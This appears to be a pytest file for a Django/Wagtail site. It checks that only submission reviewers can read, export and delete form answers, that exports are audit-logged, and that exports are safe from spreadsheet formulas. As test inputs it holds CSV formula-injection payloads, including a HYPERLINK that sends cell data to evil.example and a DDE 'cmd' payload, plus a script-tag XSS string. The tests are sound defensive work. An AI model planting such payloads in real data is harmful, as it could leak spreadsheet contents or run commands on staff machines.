"""Staff reading the answers: only submission reviewers (and superusers) see, export and
delete them; exports open safely in a spreadsheet; every view, export and deletion is in the
audit log."""

import csv
import datetime
import io
import zipfile

from django.urls import reverse

from wagtail.models import PageLogEntry

import openpyxl
import pytest

from forms.factories import FormPageFactory
from forms.models import Submission
from tests.forms.conftest import VALID_ANSWERS
from tests.forms.support import filled
from tests.helpers import visible_text

DANGEROUS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.fixture
def answered_form(client, contact_form):
    client.post(contact_form.url, filled(contact_form, VALID_ANSWERS))
    client.post(
        contact_form.url, filled(contact_form, dict(VALID_ANSWERS, your_name="Grace Hopper"))
    )
    assert Submission.objects.filter(page=contact_form).count() == 2
    return contact_form


def submissions_url(form):
    return reverse("wagtailforms:list_submissions", args=[form.pk])


def delete_url(form, *submissions):
    ids = "&".join(f"selected-submissions={s.pk}" for s in submissions)
    return reverse("wagtailforms:delete_submissions", args=[form.pk]) + "?" + ids


def body_of(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response):
    body = body_of(response)
    assert body.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response):
    content = body_of(response)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), "a formula cell in " + name
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for row in workbook.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    return list(workbook.active.iter_rows(values_only=True))


# Who sees what ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_reviewers_group_exists_with_its_permissions():
    from django.contrib.auth.models import Group

    group = Group.objects.get(name="Submission reviewers")
    codenames = set(group.permissions.values_list("codename", flat=True))
    assert codenames == {"access_admin", "view_submission", "delete_submission"}


@pytest.mark.django_db
def test_admin_lists_the_submissions(admin_client, answered_form):
    response = admin_client.get(submissions_url(answered_form))
    assert response.status_code == 200
    text = visible_text(response)
    assert "Ada Lovelace" in text
    assert "Grace Hopper" in text
    assert "ada@example.org" in text


@pytest.mark.django_db
def test_a_reviewer_lists_and_exports_but_cannot_edit_the_page(client, reviewer, answered_form):
    client.force_login(reviewer)
    assert client.get(reverse("wagtailforms:index")).status_code == 200
    assert "Connect with us" in visible_text(client.get(reverse("wagtailforms:index")))
    response = client.get(submissions_url(answered_form))
    assert response.status_code == 200
    assert "Grace Hopper" in visible_text(response)
    for export in ("csv", "xlsx"):
        assert client.get(submissions_url(answered_form), {"export": export}).status_code == 200
    edit = client.get(reverse("wagtailadmin_pages:edit", args=[answered_form.pk]))
    assert edit.status_code == 302
    assert not reviewer.has_perm("wagtailcore.change_page")


@pytest.mark.django_db
def test_a_reviewer_can_delete_submissions(client, reviewer, answered_form):
    client.force_login(reviewer)
    ada = Submission.objects.get(form_data__your_name="Ada Lovelace")
    response = client.post(delete_url(answered_form, ada))
    assert response.status_code == 302
    assert list(Submission.objects.values_list("form_data__your_name", flat=True)) == [
        "Grace Hopper"
    ]


@pytest.mark.django_db
def test_an_editor_who_is_no_reviewer_sees_no_submissions(client, editor, answered_form):
    client.force_login(editor)
    # They can edit the form page itself...
    edit = client.get(reverse("wagtailadmin_pages:edit", args=[answered_form.pk]))
    assert edit.status_code == 200
    assert "Total submissions" not in edit.content.decode()
    # ...but not read, export or delete its answers.
    for url, params in [
        (reverse("wagtailforms:index"), {}),
        (submissions_url(answered_form), {}),
        (submissions_url(answered_form), {"export": "csv"}),
        (submissions_url(answered_form), {"export": "xlsx"}),
    ]:
        response = client.get(url, params)
        assert response.status_code in (302, 403), url
        assert b"Ada Lovelace" not in body_of(response)
    ada = Submission.objects.get(form_data__your_name="Ada Lovelace")
    assert client.post(delete_url(answered_form, ada)).status_code in (302, 403)
    assert Submission.objects.count() == 2
    # No "Forms" menu item for them either (the sidebar is drawn from JSON in the page).
    home = client.get(reverse("wagtailadmin_home"))
    assert home.status_code == 200
    assert '"/admin/forms/"' not in home.content.decode()


@pytest.mark.django_db
def test_reviewers_get_the_forms_menu_item(client, reviewer, contact_form):
    client.force_login(reviewer)
    home = client.get(reverse("wagtailadmin_home"))
    assert '"/admin/forms/"' in home.content.decode()


@pytest.mark.django_db
def test_the_edit_view_shows_reviewers_the_count_in_every_language(admin_client, answered_form):
    edit = admin_client.get(reverse("wagtailadmin_pages:edit", args=[answered_form.pk]))
    assert "Total submissions" in edit.content.decode()


@pytest.mark.django_db
def test_visitors_cannot_read_submissions(client, answered_form):
    for params in ({}, {"export": "csv"}, {"export": "xlsx"}):
        response = client.get(submissions_url(answered_form), params)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("wagtailadmin_login"))


@pytest.mark.django_db
def test_a_user_without_the_delete_permission_cannot_delete(
    client, django_user_model, answered_form
):
    from django.contrib.auth.models import Permission

    reader = django_user_model.objects.create_user("reader", "reader@example.org", "pw")
    reader.user_permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_submission"),
    )
    client.force_login(reader)
    assert client.get(submissions_url(answered_form)).status_code == 200
    ada = Submission.objects.get(form_data__your_name="Ada Lovelace")
    assert client.post(delete_url(answered_form, ada)).status_code in (302, 403)
    assert Submission.objects.count() == 2


@pytest.mark.django_db
def test_deleting_with_another_forms_submission_id_leaves_it_alone(
    client, reviewer, answered_form, home_page
):
    other = FormPageFactory(parent=home_page, slug="other")
    theirs = Submission.objects.create(page=other, form_data={"x": "keep me"})
    client.force_login(reviewer)
    response = client.post(delete_url(answered_form, theirs))
    assert response.status_code == 302
    assert Submission.objects.filter(pk=theirs.pk).exists()
    assert Submission.objects.count() == 3


@pytest.mark.django_db
def test_deleting_with_nonsense_ids_is_no_error(admin_client, answered_form):
    url = reverse("wagtailforms:delete_submissions", args=[answered_form.pk])
    nonsense = ["abc", "1;drop", "²", "9" * 40]
    query = "&".join(f"selected-submissions={value}" for value in nonsense)
    response = admin_client.post(f"{url}?{query}")
    assert response.status_code == 302
    assert Submission.objects.count() == 2


# Safe exports -------------------------------------------------------------------------------


@pytest.fixture
def dangerous_form(client, contact_form):
    """Seven people (seven addresses: the rate limit is per client) answer with formulas."""
    people = [*DANGEROUS.items(), ("=cmd|' /C calc'!A0", "Señora Núñez ✓")]
    for n, (label, value) in enumerate(people):
        answers = dict(VALID_ANSWERS, your_name=label, message=value)
        client.post(contact_form.url, filled(contact_form, answers), REMOTE_ADDR=f"192.0.2.{n}")
    # Forms strip leading whitespace; stored data from elsewhere may still start with it.
    for label in ("tab", "carriage return"):
        data = dict(VALID_ANSWERS, your_name=f"raw {label}", message=DANGEROUS[label])
        Submission.objects.create(page=contact_form, form_data=data, language="en")
    assert Submission.objects.count() == len(DANGEROUS) + 3
    return contact_form


def expected_cells(messages, line_end="\r", protect="'"):
    for label, value in DANGEROUS.items():
        assert messages[label] == protect + value.strip()
    assert messages["raw tab"] == protect + "\t=1+1"
    assert messages["raw carriage return"] == protect + line_end + "=1+1"
    assert messages[protect + "=cmd|' /C calc'!A0"] == "Señora Núñez ✓"


@pytest.mark.django_db
def test_csv_export_neutralises_formulas_and_reads_as_utf8(admin_client, dangerous_form):
    response = admin_client.get(submissions_url(dangerous_form), {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[0] == [
        "Submission date",
        "Your name",
        "Email",
        "How did you hear about us?",
        "Message",
        "Language",
        "Consent given",
    ]
    expected_cells({row[1]: row[4] for row in rows[1:]})
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert row[5] == "en"
    assert rows[1][6] == "I agree that CARE keeps my answers to reply to me."


@pytest.mark.django_db
def test_xlsx_export_has_no_formula_cell(admin_client, dangerous_form):
    response = admin_client.get(submissions_url(dangerous_form), {"export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    rows = xlsx_rows(response)
    assert rows[0][1:] == (
        "Your name",
        "Email",
        "How did you hear about us?",
        "Message",
        "Language",
        "Consent given",
    )
    # XML reads a carriage return back as a line feed. Cells are text cells (never formulas,
    # checked by xlsx_rows), so they show the answers as given, with no apostrophe.
    expected_cells({row[1]: row[4] for row in rows[1:]}, line_end="\n", protect="")


@pytest.mark.django_db
def test_export_takes_the_same_queries_for_many_submissions(
    admin_client, contact_form, django_assert_max_num_queries
):
    """An export reads every submission: it must not cost a query per row."""
    for n in range(40):
        Submission.objects.create(page=contact_form, form_data={"your_name": f"P{n}"})
    admin_client.get(submissions_url(contact_form), {"export": "csv"})
    with django_assert_max_num_queries(20):
        response = admin_client.get(submissions_url(contact_form), {"export": "csv"})
        assert len(csv_rows(response)) == 41


# Audit log ----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_viewing_exporting_and_deleting_are_in_the_audit_log(client, reviewer, answered_form):
    client.force_login(reviewer)
    client.get(submissions_url(answered_form))
    client.get(submissions_url(answered_form), {"export": "csv"})
    client.get(submissions_url(answered_form), {"export": "xlsx"})
    ada = Submission.objects.get(form_data__your_name="Ada Lovelace")
    client.post(delete_url(answered_form, ada))
    entries = PageLogEntry.objects.filter(page=answered_form, action__startswith="care_forms.")
    logged = [
        (entry.action, entry.user_id, entry.data["count"], entry.data.get("format"))
        for entry in entries.order_by("timestamp", "pk")
    ]
    assert logged == [
        ("care_forms.view_submissions", reviewer.pk, 2, None),
        ("care_forms.export_submissions", reviewer.pk, 2, "csv"),
        ("care_forms.export_submissions", reviewer.pk, 2, "xlsx"),
        ("care_forms.delete_submissions", reviewer.pk, 1, None),
    ]
    messages = [entry.message for entry in entries.order_by("timestamp", "pk")]
    assert messages == [
        "Viewed 2 submissions",
        "Exported 2 submissions (CSV)",
        "Exported 2 submissions (XLSX)",
        "Deleted 1 submission",
    ]
    # The history shows them, and holds no personal data.
    for entry in entries:
        assert "Ada" not in str(entry.data)


@pytest.mark.django_db
def test_the_page_history_lists_the_entries(admin_client, answered_form):
    admin_client.get(submissions_url(answered_form), {"export": "csv"})
    history = admin_client.get(reverse("wagtailadmin_pages:history", args=[answered_form.pk]))
    assert "Exported 2 submissions (CSV)" in visible_text(history)


@pytest.mark.django_db
def test_a_script_in_an_answer_is_shown_as_text_in_the_admin(client, admin_client, contact_form):
    answers = dict(VALID_ANSWERS, your_name='<script>alert("x")</script>')
    client.post(contact_form.url, filled(contact_form, answers))
    response = admin_client.get(submissions_url(contact_form))
    html = response.content.decode()
    assert '<script>alert("x")</script>' not in html
    assert "&lt;script&gt;" in html


@pytest.mark.django_db
def test_an_admin_user_without_page_or_submission_permissions_sees_nothing(
    client, django_user_model, answered_form
):
    from django.contrib.auth.models import Permission

    user = django_user_model.objects.create_user("nobody", "nobody@example.org", "pw")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    for params in ({}, {"export": "csv"}, {"export": "xlsx"}):
        response = client.get(submissions_url(answered_form), params)
        assert response.status_code in (302, 403)
        assert b"Ada Lovelace" not in body_of(response)
    assert client.get(reverse("wagtailforms:index")).status_code in (302, 403)


@pytest.mark.django_db
def test_exports_give_the_time_in_the_sites_zone_to_the_second(admin_client, contact_form):
    """The admin lists submissions in the site's time zone (New York here); exports agree."""
    sent = datetime.datetime(2026, 12, 4, 14, 48, 36, 163970, tzinfo=datetime.UTC)
    submission = Submission.objects.create(page=contact_form, form_data={"your_name": "Ada"})
    Submission.objects.filter(pk=submission.pk).update(submit_time=sent)

    rows = csv_rows(admin_client.get(submissions_url(contact_form), {"export": "csv"}))
    assert rows[1][0] == "2026-12-04 09:48:36 EST"
    rows = xlsx_rows(admin_client.get(submissions_url(contact_form), {"export": "xlsx"}))
    assert rows[1][0] == datetime.datetime(2026, 12, 4, 9, 48, 36)
